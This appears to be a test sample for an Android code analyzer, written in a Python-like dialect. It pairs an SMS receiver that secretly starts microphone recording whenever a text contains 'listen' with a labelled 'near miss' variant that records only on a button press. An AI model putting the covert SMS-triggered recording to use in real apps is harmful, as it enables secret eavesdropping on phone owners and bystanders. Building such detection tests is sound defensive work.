permissions("RECEIVE_SMS", "RECORD_AUDIO")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        if message.getMessageBody().contains("listen"):
            Ear().listen()

class Ear:
    def listen(self):
        recorder = MediaRecorder()
        recorder.setAudioSource(1)
        recorder.setOutputFile("/sdcard/a")
        recorder.start()

class Press(View_OnClickListener):
    def onClick(self, view):
        Ear().listen()

# near miss: records only when the user presses the button
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        if message.getMessageBody().contains("listen"):
            View(context).setOnClickListener(Press())
